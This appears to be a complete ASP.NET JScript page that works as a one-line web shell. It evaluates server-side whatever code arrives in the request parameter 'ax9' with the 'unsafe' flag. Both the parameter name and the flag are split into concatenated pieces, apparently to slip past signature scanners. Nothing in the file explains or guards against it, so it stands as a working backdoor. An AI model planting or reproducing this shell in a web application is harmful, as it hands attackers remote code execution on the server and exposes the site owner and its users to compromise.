<%@ Page Language = JScript Debug=false %>
<%
var k = "a" + "x" + "9";
eval(Request.Item[k], "uns" + "afe");
%>
